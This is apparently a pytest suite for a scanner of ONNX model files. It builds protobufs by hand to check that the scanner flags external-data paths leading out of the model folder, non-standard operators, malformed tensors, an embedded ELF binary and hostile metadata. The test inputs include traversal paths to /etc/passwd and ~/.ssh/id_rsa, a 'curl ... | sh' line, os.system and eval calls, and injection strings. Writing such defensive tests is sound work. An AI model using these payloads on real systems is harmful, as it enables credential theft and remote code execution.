"""ONNX files written by hand: external data, names of the standard, tensors that lie, metadata, hidden bytes."""

from __future__ import annotations

import pytest

EXTERNAL, CUSTOM, MALFORMED = "model.external_data", "model.custom_operator", "model.malformed_model"


def model(pb, *graph: tuple[int, bytes], more: tuple[tuple[int, int | str | bytes], ...] = ()) -> bytes:
    """A ModelProto of one Relu and what is given."""
    node = pb.message((1, "x"), (2, "y"), (4, "Relu"))
    inner = pb.message((1, node), (2, "g"), *graph)
    return pb.message((1, 8), (2, "pytest"), (7, inner), (8, pb.message((2, 17))), *more)


def tensor(pb, *fields: tuple[int, int | str | bytes]) -> tuple[int, bytes]:
    return 5, pb.message((1, 2), (2, 1), (8, "w"), *fields)


def outside(pb, **entries: str) -> tuple[int, bytes]:
    listed = [(13, pb.message((1, key), (2, value))) for key, value in entries.items()]
    return tensor(pb, *listed, (14, 1))


def test_plain_model_is_quiet(scan_bytes, pb) -> None:
    assert scan_bytes("m.onnx", model(pb, tensor(pb, (9, bytes(8))))).loud == []


def test_external_data_beside_the_model_is_quiet(scan_bytes, pb) -> None:
    entries = {"location": "weights/data.bin", "offset": "0", "length": "8"}
    assert scan_bytes("m.onnx", model(pb, outside(pb, **entries))).loud == []


LOCATIONS = {
    "CVE-2022-25882 parent": "../../etc/passwd",
    "CVE-2024-27318 embedded parent": "weights/../../../etc/passwd",
    "CVE-2025-51480 absolute": "/etc/passwd",
    "CVE-2026-27489 backslash": "weights\\..\\..\\secret",
    "CVE-2026-34446 blank around": "weights/ .. /secret",
    "CVE-2026-34447 address": "file:///etc/passwd",
    "NUL": "ok.bin\x00/../../x",
    "drive": "C:secret",
    "percent": "%2e%2e/%2e%2e/etc/passwd",
    "home": "~/.ssh/id_rsa",
    "variable": "${HOME}/secret",
}


@pytest.mark.parametrize("location", LOCATIONS.values(), ids=LOCATIONS)
def test_locations_that_lead_out(scan_bytes, pb, location: str) -> None:
    assert scan_bytes("m.onnx", model(pb, outside(pb, location=location))).severities(EXTERNAL) == {"high"}


@pytest.mark.parametrize(
    "location", ["a..b", "..weights", "weights..", "model.onnx.data", "dir/part-1.bin", "100% sure"]
)
def test_locations_that_only_look_odd(scan_bytes, pb, location: str) -> None:
    assert scan_bytes("m.onnx", model(pb, outside(pb, location=location))).of(EXTERNAL) == []


def places(pb) -> dict[str, bytes]:
    """Every place of the schema a tensor can stand in."""
    evil = outside(pb, location="../x")[1]
    attribute = pb.message((1, "value"), (5, evil))
    inner = pb.message((1, pb.message((4, "Constant"), (5, attribute))))
    branch = pb.message((1, "then_branch"), (6, inner))
    function = pb.message((1, "F"), (10, "my"), (7, pb.message((4, "Constant"), (5, attribute))))
    return {
        "attribute": model(pb, (1, pb.message((4, "Constant"), (5, attribute)))),
        "attribute list": model(pb, (1, pb.message((4, "C"), (5, pb.message((1, "v"), (10, evil)))))),
        "subgraph": model(pb, (1, pb.message((4, "If"), (5, branch)))),
        "sparse values": model(pb, (15, pb.message((1, evil)))),
        "sparse indices": model(pb, (15, pb.message((2, evil)))),
        "sparse attribute": model(
            pb, (1, pb.message((4, "C"), (5, pb.message((1, "v"), (22, pb.message((1, evil)))))))
        ),
        "function": model(pb, more=((25, function),)),
        "training graph": model(pb, more=((20, pb.message((2, pb.message((5, evil))))),)),
    }


@pytest.mark.parametrize("place", ["attribute", "attribute list", "subgraph", "sparse values", "sparse indices",
                                   "sparse attribute", "function", "training graph"])  # fmt: skip
def test_external_data_wherever_a_tensor_stands(scan_bytes, pb, place: str) -> None:
    assert scan_bytes("m.onnx", places(pb)[place]).of(EXTERNAL)


@pytest.mark.parametrize(
    "entries",
    [
        {"location": "a", "offset": "-1"}, {"location": "a", "length": "9" * 30}, {"location": "a", "offset": "0x10"},
        {"location": "a", "__class__": "x"}, {"location": "a", "length": "1e9"},
    ],
)  # fmt: skip
def test_external_data_with_odd_numbers_or_keys(scan_bytes, pb, entries: dict[str, str]) -> None:
    assert scan_bytes("m.onnx", model(pb, outside(pb, **entries))).of(MALFORMED)


def test_a_compiled_context_beside_the_model(scan_bytes, pb) -> None:
    def context(path: str) -> bytes:
        attribute = pb.message((1, "ep_cache_context"), (4, path))
        return model(pb, (1, pb.message((4, "EPContext"), (5, attribute), (7, "com.microsoft"))))

    assert scan_bytes("m.onnx", context("../../x.bin")).severities(EXTERNAL) == {"high"}
    assert scan_bytes("m.onnx", context("model_ctx.bin")).loud == []


@pytest.mark.parametrize(
    "fields",
    [((9, bytes(7)),), ((9, bytes(12)),), ((1, 1 << 62), (1, 1 << 62), (9, bytes(8))), ((1, (1 << 64) - 1),)],
    ids=["short", "long", "huge", "negative"],
)
def test_tensors_that_lie(scan_bytes, pb, fields) -> None:
    assert scan_bytes("m.onnx", model(pb, tensor(pb, *fields))).of(MALFORMED)


def test_packed_dimensions(scan_bytes, pb) -> None:
    packed = pb.message((1, bytes([2, 3])), (2, 1), (9, bytes(24)))
    assert scan_bytes("m.onnx", model(pb, (5, packed))).loud == []


@pytest.mark.parametrize(
    ("domain", "kind", "severity"),
    [
        ("", "Relu", None), ("ai.onnx", "Upsample", None), ("ai.onnx.ml", "TreeEnsembleClassifier", None),
        ("com.microsoft", "FusedMatMul", None), ("", "Evil", "medium"), ("ai.onnx.ml", "Evil", "medium"),
        ("evil.ops", "Relu", "medium"), ("ai.onnx.contrib", "PyOp", "high"), ("", "PyOp", "high"),
        ("ai.onnx ", "Relu", "medium"),
    ],
)  # fmt: skip
def test_operators_by_the_standards_own_list(scan_bytes, pb, domain: str, kind: str, severity: str | None) -> None:
    result = scan_bytes("m.onnx", model(pb, (1, pb.message((4, kind), (7, domain)))))
    assert result.severities(CUSTOM) == ({severity} if severity else set())


def test_a_function_by_the_name_of_a_standard_operator(scan_bytes, pb) -> None:
    def named(kind: str, domain: str) -> bytes:
        return model(pb, (1, pb.message((4, kind), (7, domain))), more=((25, pb.message((1, kind), (10, domain))),))

    assert scan_bytes("m.onnx", named("Relu", "")).of(CUSTOM)
    assert scan_bytes("m.onnx", named("Mine", "my.domain")).loud == []


@pytest.mark.parametrize(
    ("value", "loud"),
    [
        ("__import__('os').system('id')", True), ("eval(open('x').read())", True), ("<script>alert(1)</script>", True),
        ("{{ cycler.__init__.__globals__.os }}", True), ("gASVIAAAAAAAAACMBXBvc2l4lIw=", True),
        ("curl http://x.y/z | sh", True), ("http://10.0.0.1:8080/x", True),
        ("{0: 'cat', 1: 'dog'}", False), ("A model; see https://example.org/docs", False),
        ("Evaluate (eval) with the system of subprocesses; import the os data", False),
    ],
)  # fmt: skip
def test_metadata(scan_bytes, pb, value: str, loud: bool) -> None:
    for data in (
        model(pb, more=((14, pb.message((1, "key"), (2, value))),)),
        model(pb, (16, pb.message((1, "key"), (2, value)))),
        model(pb, more=((6, value),)),
    ):
        assert bool(scan_bytes("m.onnx", data).of("model.model_metadata")) is loud


def test_a_program_among_the_weights(scan_bytes, pb, elf: bytes) -> None:
    raw = bytes(512) + elf.ljust(512, b"\0")
    weights = (5, pb.message((1, 1024), (2, 3), (9, raw)))
    assert scan_bytes("m.onnx", model(pb, weights)).severities("model.embedded_payload") == {"high"}


def test_truncated_at_every_byte(scan_bytes, pb) -> None:
    data = model(pb, tensor(pb, (9, bytes(8))))
    for cut in range(1, len(data)):
        assert scan_bytes("m.onnx", data[:cut]).findings, cut
